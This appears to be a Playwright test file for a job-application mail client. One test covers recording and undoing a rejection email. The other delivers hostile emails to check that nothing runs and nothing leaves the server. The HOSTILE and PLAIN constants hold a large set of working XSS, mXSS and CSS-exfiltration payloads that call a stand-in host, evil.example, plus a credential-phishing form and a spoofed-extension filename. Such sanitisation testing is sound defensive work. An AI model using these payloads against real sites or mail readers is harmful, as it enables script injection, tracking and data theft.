"""A no arrives in a real mailbox: it is read, said yes to with one key, its reply is owed, and one press takes all of it back. And mails made to run something, seen in a real browser."""

from __future__ import annotations

import datetime as dt
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support.browser import DESK, PHONE, chromium
from tests.support.imap_server import USER, ImapServer, started
from tests.support.mail_server import PASSWORD
from tests.support.messages import NO, eml
from tests.support.serve import Serve
from tests.support.warm import run_code

pytestmark = pytest.mark.browser
NOW = "2026-11-24T16:00:00-06:00"
CAME = dt.datetime(2026, 11, 24, 21, 5, tzinfo=dt.UTC)
SEED = """
import datetime as dt
from sincerely import bootstrap, clock
bootstrap.open_journal()
from sincerely.journal.actions.candidates import begin
from tests.outbox.conftest import written
me = begin(bootstrap.local_user(), clock.now(), name="Maya Ruiz", email="maya@ruiz.example", zone="America/Chicago")
written(me, clock.now() - dt.timedelta(days=1))
"""

#: Known ways to make a mail's reader run or load something, in HTML, SVG and CSS; each would call home to EVIL.
EVIL = "https://evil.example"
HOSTILE = f"""<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh"><link rel="stylesheet" href="{EVIL}/a.css">
<link rel="dns-prefetch" href="{EVIL}"><link rel="prefetch" href="{EVIL}/p"><style>@import url({EVIL}/b.css); body {{ background: url({EVIL}/bg) }} @font-face {{ font-family: x; src: url({EVIL}/f) }}
p {{ behavior: url({EVIL}/h.htc); -moz-binding: url({EVIL}/x.xml#x) }} input[value^="a"] {{ background: url({EVIL}/leak) }}</style></head>
<body onload="alert(1)" background="{EVIL}/body"><p>Dear Maya, please call me on Friday.</p>
<script>alert(1)</script><script src="{EVIL}/x.js"></script><img src=x onerror=alert(1)><img src="{EVIL}/pixel.gif" width=1 height=1><img srcset="{EVIL}/set 1x">
<svg onload=alert(1)><script>alert(1)</script><image href="{EVIL}/svg" /><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x" /><animate onbegin=alert(1) attributeName=x dur=1s>
<foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e"><video poster="{EVIL}/v" src="{EVIL}/v2"></video>
<audio src="{EVIL}/a"></audio><a href="javascript:alert(1)">Here</a><a href="{EVIL}/go" ping="{EVIL}/ping">there</a><form action="{EVIL}/post"><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:9999;background:url({EVIL}/cover)">Cover</div><p style="width:expression(alert(1))">x</p><details open ontoggle=alert(1)>y</details><marquee onstart=alert(1)>z</marquee>
<template><img src=x onerror=alert(1)></template><textarea></textarea><script>alert(1)</script>{{{{ 7|add:7 }}}}{{% debug %}}\u202egnp.exe</body></html>"""
PLAIN = (
    f"Dear Maya,\n\n</div></article><script>alert(1)</script><img src={EVIL}/p onerror=alert(1)>\n<svg/onload=alert(1)>\n"
    f"javascript:alert(1) data:text/html,<script>alert(1)</script> {EVIL}/link\n\" onmouseover=alert(1) x=\"\n&lt;script&gt;alert(1)&lt;/script&gt;\n\nPlease call me on Friday.\n"
)  # fmt: skip


@pytest.fixture(scope="module")
def mailbox() -> Iterator[ImapServer]:
    yield from started()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def serve(empty_folder, tmp_path_factory) -> Iterator[Serve]:
    """A desk on the day after the interview."""
    data = Path(shutil.copytree(empty_folder, tmp_path_factory.mktemp("no") / "data"))
    with Serve(data, SINCERELY_NOW=NOW) as serve:
        run_code(SEED, environment=serve.environment)
        yield serve


@pytest.fixture(scope="module")
def page(browser, serve, mailbox) -> Iterator[Page]:
    """Signed in, with the mailbox connected in the settings."""
    context = browser.new_context(viewport=DESK, timezone_id="America/Chicago", base_url=serve.address)
    page = context.new_page()
    page.goto(serve.link)
    page.get_by_role("button", name="Sign in").click()
    page.goto("/inbox")
    page.get_by_role("link", name="Connect your mailbox").click()
    page.get_by_label("Incoming server").fill("127.0.0.1")
    page.get_by_label("Port").fill(str(mailbox.port))
    page.get_by_label("Security").select_option("plain")
    page.get_by_label("Sign-in name").fill(USER)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_contain_text("Saved")
    yield page
    context.close()


def test_a_no_is_read_said_yes_to_with_one_key_answered_in_time_and_undone(page, mailbox):
    mailbox.deliver(eml(NO, sent=CAME), CAME)
    mailbox.deliver(eml(("Twenty per cent", "Only today!\n"), "News <news@shop.example>", CAME), CAME)
    page.goto("/")
    page.keyboard.press("g")
    page.keyboard.press("i")
    expect(page.get_by_role("heading", level=1)).to_have_text("Inbox")
    page.get_by_role("button", name="Look now").click()
    expect(page.get_by_role("region", name="To look at").get_by_role("listitem")).to_have_count(1)
    expect(page.locator("main")).to_contain_text("They said no")
    page.goto("/")
    expect(page.locator("main")).to_contain_text("1 message to look at")
    page.get_by_role("link", name="1 message to look at").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Inbox")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Your application for Ward Manager")
    expect(page.get_by_role("article")).to_contain_text("we have decided to go with another candidate")
    expect(page.locator("main")).to_contain_text("A kind reply is owed, after a few quiet hours.")
    page.keyboard.press("y")
    expect(page.get_by_role("status")).to_contain_text("It is on record.")
    page.get_by_role("link", name="Thank Amara Okafor for letting you know").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("Thank Amara Okafor for letting you know")
    page.goto("/applications/1")
    expect(page.locator(".head")).to_contain_text("Refused")
    page.get_by_role("link", name="the message").click()
    page.get_by_role("region", name="They said no").get_by_role("button", name="Undo").click()
    expect(page.get_by_role("status")).to_contain_text("Undone. What followed from it is as before.")
    page.goto("/applications/1")
    expect(page.locator(".head")).not_to_contain_text("Refused")
    expect(page.locator("main")).not_to_contain_text("for letting you know")
    # Enter is the page's one yes too, where nothing else is marked.
    page.get_by_role("link", name="Your application for Ward Manager").click()
    expect(page.get_by_role("button", name="Yes, record it")).to_be_visible()
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_contain_text("It is on record.")
    page.get_by_role("status").get_by_role("button", name="Undo").click()
    expect(page.get_by_role("button", name="Yes, record it")).to_be_visible()


def test_must_survive_25_nothing_in_a_mail_runs_and_nothing_leaves(browser, page, serve, mailbox):
    mails = {
        "html": eml(("Hostile html", HOSTILE), sent=CAME, kind="html"),
        "plain": eml(("Hostile plain <img src=x onerror=alert(1)>", PLAIN), '"<script>alert(1)</script>" <amara@lakeside.example>', CAME),
        "svg": eml(("Hostile svg", f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{EVIL}/i"/></svg>'), sent=CAME, kind="svg+xml"),
    }  # fmt: skip
    for data in mails.values():
        mailbox.deliver(data, CAME)
    page.goto("/inbox")
    page.get_by_role("button", name="Look now").click()
    expect(page.get_by_role("status")).to_contain_text("3 messages came in.")
    asked: list[str] = []
    told: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (told.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda said: told.append(said.text) if said.type == "error" else None)
    addresses = [link.get_attribute("href") for link in page.get_by_role("link", name="Hostile").all()]
    assert len(addresses) == 3
    for size in (DESK, PHONE):
        page.set_viewport_size(size)
        for address in ("/inbox", *addresses):
            page.goto(address)
            page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
            page.locator("main").hover()
            assert (
                page.locator(
                    "main :is(script, img, svg, iframe, object, embed, video, style, link, base, meta)"
                ).count()
                == 0
            )
            assert (
                page.locator("main a[href*='evil'], main a[href^='javascript'], main form[action*='evil']").count() == 0
            )
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (address, size)
        if size == DESK:
            text = page.locator(".mail").first.inner_text()
            assert "Dear Maya" in text or "svg" in text or text
    page.wait_for_load_state("networkidle")
    assert told == []
    assert asked and all(url.startswith(serve.address) for url in asked)
